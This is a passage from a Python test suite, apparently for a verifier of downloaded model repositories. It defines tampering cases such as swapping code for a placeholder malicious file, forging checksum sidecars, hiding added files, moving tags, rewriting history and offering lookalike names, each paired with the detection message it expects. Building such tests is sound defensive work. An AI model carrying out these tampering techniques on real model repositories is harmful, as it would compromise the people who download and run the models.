    "with spaces before them": ("SHA256SUMS", " \t{digest}  {name}\n", 1),
    "with the name of the algorithm": ("checksums.txt", "sha256:{digest}  {name}\n", 1),
    "of a bag": ("manifest-sha256.txt", "{digest}  {name}\n", 1),
    "with the names first": ("checksums.txt", "{name}: {digest}\n", 3),
}


def spell(name: str, form: str) -> Change:
    """Return a change that writes sums in a form, and replaces code."""
    return lambda at: (write_sums(at, name, form), overwrite(at.root / CODE, EVIL))


SIDECARS += [
    Case(
        *("sidecars", f"replace code beside lines {what}"),
        spell(name, form),
        code,
        f"*/checksum-mismatch {CODE}" if code == 1 else f"*/unsound-record {name}",
    )
    for what, (name, form, code) in SPELLINGS.items()
]
SIDECARS += [
    Case(
        *("sidecars", "replace code beside lines in UTF-16"),
        lambda at: (
            write(at.root / "checksums.txt", sum_files(at).replace("\n", "\r\n").encode("utf-16")),
            overwrite(at.root / CODE, EVIL),
        ),
        *(1, f"*/checksum-mismatch {CODE}"),
    ),
    Case(
        *("sidecars", "replace code, and move its line"),
        lambda at: (
            write(at.root / "SHA256SUMS", sum_files(at).replace(f"  {CODE}", f" ; {CODE}")),
            overwrite(at.root / CODE, EVIL),
        ),
        *(3, "*/named-file-absent SHA256SUMS"),
    ),
]
LOCK = [
    Case("lock", "change a byte and keep size and time", lambda at: flip(at.root / FIRST), 1, f"  changed: {FIRST}"),
    Case(
        *("lock", "swap two shards"),
        lambda at: swap(at.root / FIRST, at.root / SECOND),
        *(1, f"  changed: {SECOND}"),
    ),
    Case(
        *("lock", "replace code and state it in SHA256SUMS"),
        lambda at: (overwrite(at.root / CODE, EVIL), write_sums(at)),
        *(1, f"  changed: {CODE}"),
    ),
    Case("lock", "add hidden code", lambda at: write(at.root / ".x.py", EVIL), 1, "  added: .x.py"),
    Case(
        *("lock", "add a folder of git below the root"),
        lambda at: write(at.root / "tokenizer/.git/x.py", EVIL),
        *(1, "  added: tokenizer/.git/x.py"),
    ),
    Case("lock", "remove code", lambda at: (at.root / CODE).unlink(), 1, f"  missing: {CODE}"),
    Case("lock", "rename code", lambda at: (at.root / CODE).rename(at.root / "json.py"), 1, "  renamed: json.py"),
    Case(
        *("lock", "rename to capitals"),
        lambda at: (at.root / CONFIG).rename(at.root / "Config.json"),
        *(1, "  case: Config.json"),
    ),
    Case("lock", "make a file executable", lambda at: (at.root / CODE).chmod(0o755), 1, f"  mode: {CODE}"),
    Case("lock", "retarget a link", lambda at: relink(at.root / "link.json", CODE), 1, "  changed: link.json"),
    Case(
        *("lock", "put a link to equal bytes in place of a file"),
        lambda at: (write(at.beside / "x", FILES[CODE]), relink(at.root / CODE, at.beside / "x")),
        *(1, f"  kind: {CODE}"),
    ),
    Case("lock", "remove an empty folder", lambda at: (at.root / "empty").rmdir(), 1, "  missing: empty"),
]
LOCK = [Case(c.place, c.operation, c.change, c.code, c.named, "verify --lock") for c in LOCK]
LOCK += [
    Case(
        *("lock", "replace a configuration before a scan"),
        lambda at: (overwrite(at.root / CONFIG, OLD_FILES[CONFIG]), at.options.extend(["--lock", str(at.lock)])),
        *(1, f"*/lock-mismatch {CONFIG}"),
    ),
]
PROVENANCE = [
    Case(
        *("hub", "move to another owner"),
        lambda at: at.hub.rename_repository(at.repository.id, "mallory/tiny"),
        *(1, "moved: "),
    ),
    Case("hub", "register the owner again", lambda at: state_owner(at, id="f" * 24), 1, "owner: the id"),
    Case(
        *("hub", "let the owner be younger"),
        lambda at: state_owner(at, created="2026-01-01T00:00:00.000Z"),
        *(1, "owner: the date of creation"),
    ),
    Case("hub", "replace the organisation by a user", lambda at: state_owner(at, is_user=True), 1, "owner: the kind"),
    Case("hub", "create the repository again", recreate, 1, "younger: "),
    Case("hub", "move a tag", lambda at: at.repository.set_tag("v1"), 1, "tag-moved: the tag 'v1'"),
    Case("hub", "remove a tag", lambda at: at.repository.tags.pop("v1"), 1, "revision-gone: "),
    Case("hub", "rewrite the history", rewrite_history, 1, "history-rewritten: "),
    Case("hub", "drop the commit", lambda at: rewrite_history(at, keeps_commit=False), 1, "commit-gone: "),
    Case(
        *("hub", "remove the repository"),
        lambda at: at.hub.access.repositories.pop(("model", at.repository.id)),
        *(1, "missing: "),
    ),
    Case(
        *("hub", "change the licence"),
        lambda at: relock(at).commit({"README.md": b"---\nlicense: cc-by-nc-4.0\n---\n"}),
        *(1, "license: "),
    ),
]
PROVENANCE = [Case(c.place, c.operation, c.change, c.code, c.named, "lock --check") for c in PROVENANCE]
MEDIUM = ("--fail-on", "medium")
PROVENANCE += [
    Case(
        *("hub", "move to another owner before a scan"),
        lambda at: at.hub.rename_repository(at.repository.id, "mallory/moved"),
        *(1, "provenance/moved *"),
        options=MEDIUM,
    ),
    Case("hub", "register the owner again before a scan", register_again, 1, "*/owner-younger-than-pin *"),
    Case(
        *("hub", "register the owner again before a scan with the lock"),
        lambda at: (shutil.rmtree(at.home / "hub"), register_again(at), at.options.extend(["--lock", str(at.lock)])),
        *(1, "*/owner-younger-than-pin *"),
    ),
    Case(
        *("hub", "move a tag before a scan"),
        lambda at: at.repository.set_tag("v1"),
        *(1, "provenance/history-rewritten *"),
        options=MEDIUM,
    ),
    Case(
        *("hub", "rewrite the history before a scan"),
        lambda at: (rewrite_history(at), at.options.extend(MEDIUM)),
        *(1, "provenance/history-rewritten *"),
    ),
    Case(
        *("hub", "move a tag before a scan with the lock"),
        lambda at: (at.repository.set_tag("v1"), at.options.extend(["--lock", str(at.lock)])),
        *(1, f"*/lock-mismatch {CONFIG}"),
    ),
    Case("hub", "offer the model under an imitated name", imitate, 1, "provenance/lookalike *"),
]
CASES = [*CACHE, *WIRE, *LOCAL_DIR, *GIT, *SIDECARS, *LOCK, *PROVENANCE]
